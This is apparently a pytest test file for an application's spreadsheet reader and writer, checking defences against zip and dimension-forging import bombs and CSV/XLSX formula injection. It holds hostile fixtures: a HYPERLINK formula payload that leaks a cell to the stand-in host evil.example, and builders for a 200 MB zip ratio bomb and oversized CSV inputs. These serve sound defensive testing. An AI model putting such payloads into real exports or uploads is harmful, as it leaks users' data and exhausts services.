"""The one spreadsheet reader and writer: no live formulas in any export, no bomb in any import."""

import csv
import io
import re
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from app.core import spreadsheets
from app.core.spreadsheets import ReadLimits, Sheet, SpreadsheetError, read_rows
from app.extensions import db
from app.records import manual

EVIL = '=HYPERLINK("http://evil.example/?x="&A3,"点击")'
#: Memory one import may take for a hostile file: a bound, not a timing.
MEMORY_BOUND = 50 * 1024 * 1024
LIMITS = ReadLimits(max_rows=50_000)


def small_xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def forged_dimension_xlsx(rows=(("工号", "姓名"), ("E1", "张三"))) -> bytes:
    """A 5 KB workbook that claims A1:XFD1048576 and has a cell in the very last row and column."""
    original = zipfile.ZipFile(io.BytesIO(small_xlsx(rows)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as forged:
        for item in original.infolist():
            data = original.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                text = re.sub(r'<dimension ref="[^"]+"\s*/>', '<dimension ref="A1:XFD1048576"/>', text)
                text = text.replace(
                    "</sheetData>",
                    '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
                    "</sheetData>",
                )
                data = text.encode()
            forged.writestr(item, data)
    return out.getvalue()


def ratio_bomb_xlsx() -> bytes:
    """A valid-looking workbook with an extra member of 200 MB of zeros (compresses to ~200 KB)."""
    out = io.BytesIO(small_xlsx([["工号"], ["E1"]]))
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/media/padding.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(200):
            member.write(bytes(1024 * 1024))
    return out.getvalue()


def peak_memory(work) -> int:
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def refused(data, kind, limits=LIMITS) -> tuple[str, int]:
    """The reader's message for a hostile file, and the peak memory it took to say so."""
    errors = []

    def work():
        try:
            list(read_rows(data, kind, limits))
        except SpreadsheetError as exc:
            errors.append(str(exc))

    peak = peak_memory(work)
    assert errors, "the file was read instead of refused"
    return errors[0], peak


# --- finding 5: import bombs --------------------------------------------------------------------


def test_finding5_a_forged_xlsx_dimension_reads_only_real_cells_in_bounded_memory():
    data = forged_dimension_xlsx()
    assert len(data) < 10_000
    rows = []
    peak = peak_memory(lambda: rows.extend(read_rows(data, "xlsx", LIMITS)))
    assert rows[:2] == [["工号", "姓名"], ["E1", "张三"]]
    assert all(row == [] for row in rows[2:])  # the padding ends at the empty-row limit
    assert len(rows) < 2 + LIMITS.max_empty_run
    assert peak < MEMORY_BOUND


def test_finding5_a_zip_with_a_huge_ratio_member_is_refused_before_it_is_inflated():
    data = ratio_bomb_xlsx()
    assert len(data) < 2 * 1024 * 1024
    message, peak = refused(data, "xlsx")
    assert "压缩比异常" in message
    assert peak < MEMORY_BOUND


def test_finding5_the_uncompressed_total_is_checked_before_opening():
    limits = ReadLimits(max_rows=10, max_uncompressed_bytes=1000)
    with pytest.raises(SpreadsheetError, match="解压后超过"):
        list(read_rows(small_xlsx([["a"]]), "xlsx", limits))


def test_finding5_four_megabytes_of_newlines_stream_in_bounded_memory():
    data = b"\xe5\xb7\xa5\xe5\x8f\xb7\n" + b"\n" * (4 * 1024 * 1024)
    rows = []
    peak = peak_memory(lambda: rows.extend(read_rows(data, "csv", LIMITS)))
    assert rows[0] == ["工号"]
    assert len(rows) <= LIMITS.max_empty_run
    assert peak < MEMORY_BOUND


def test_finding5_a_csv_line_without_end_is_refused_in_bounded_memory():
    data = b"a," * (2 * 1024 * 1024)
    message, peak = refused(data, "csv")
    assert "超过 100000 个字符" in message
    assert peak < MEMORY_BOUND


def test_finding5_a_quoted_field_full_of_newlines_is_refused():
    data = b'a,"' + b"\n" * (1024 * 1024) + b'"\n'
    message, peak = refused(data, "csv")
    assert "超过 100000 个字符" in message
    assert peak < MEMORY_BOUND


def test_finding5_rows_stop_at_the_row_limit_without_reading_the_rest():
    limits = ReadLimits(max_rows=3)
    data = "\n".join(["工号"] + [f"E{n}" for n in range(100_000)]).encode()
    reader = read_rows(data, "csv", limits)
    assert [next(reader) for _ in range(4)] == [["工号"], ["E0"], ["E1"], ["E2"]]
    with pytest.raises(SpreadsheetError, match="一次最多导入 3 行"):
        next(reader)


def test_finding5_columns_past_the_limit_are_never_read():
    limits = ReadLimits(max_rows=10, max_columns=3)
    assert list(read_rows(b"a,b,c,d,e\n", "csv", limits)) == [["a", "b", "c"]]
    assert list(read_rows(small_xlsx([list("abcde")]), "xlsx", limits)) == [["a", "b", "c"]]


def test_gbk_and_utf8_csv_are_both_read():
    text = "工号,姓名\nE1,张三\n"
    for encoding in ("utf-8-sig", "gbk"):
        assert list(read_rows(text.encode(encoding), "csv", LIMITS)) == [["工号", "姓名"], ["E1", "张三"]]


# --- finding 4: formula injection in exports ----------------------------------------------------


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_finding4_text_that_would_run_is_neutralised_and_reads_back_unchanged(text):
    assert spreadsheets.neutralise(text) == "'" + text
    assert spreadsheets.unguard(spreadsheets.neutralise(text)) == text


def test_finding4_numbers_and_ordinary_text_are_untouched():
    assert spreadsheets.neutralise(-5) == -5
    assert spreadsheets.neutralise(Decimal("-1.5")) == Decimal("-1.5")
    assert spreadsheets.neutralise("张三") == "张三"
    assert spreadsheets.neutralise("'已加引号") == "'已加引号"


def test_finding4_the_xlsx_writer_types_text_as_text():
    handle = spreadsheets.xlsx_file([Sheet("表", ["姓名", "学时"], [[EVIL, -3], ["张三", 2.5]])])
    sheet = load_workbook(handle).active
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == "'" + EVIL
    assert sheet["B2"].value == -3
    assert sheet["B2"].data_type == "n"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_finding4_the_csv_writer_streams_in_chunks():
    chunks = list(spreadsheets.csv_stream(["姓名"], ([f"{EVIL}{n}"] for n in range(1200)), batch=500))
    assert len(chunks) == 3
    rows = list(csv.reader(io.StringIO("".join(chunks).lstrip("\ufeff"))))
    assert rows[1] == ["'" + EVIL + "0"]


@pytest.fixture
def evil_member(create_user, org_tree):
    coordinator = create_user("coordinator", "member", branch=org_tree["a"], name="赵组织")
    evil = create_user(branch=org_tree["a1"], name="待改名")
    # The account form now refuses such a name; an account saved before that (or by a script
    # writing the table) may still hold one, and the export must neutralise it.
    evil.name = EVIL
    manual.credit_manual_hours(evil, Decimal("2"), "党课", coordinator)
    db.session.commit()
    return coordinator, evil


def test_finding4_the_records_csv_export_has_no_row_starting_a_formula(client, login, evil_member):
    login(evil_member[0])
    response = client.get("/records/export.csv")
    assert response.is_streamed
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [r[1] for r in rows if EVIL in r[1]] == ["'" + EVIL]
    assert not any(cell.startswith(spreadsheets.FORMULA_TRIGGERS) for r in rows for cell in r)


def test_finding4_the_records_xlsx_export_has_no_live_formula(client, login, evil_member):
    login(evil_member[0])
    response = client.get("/records/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert "'" + EVIL in [cell.value for cell in cells]
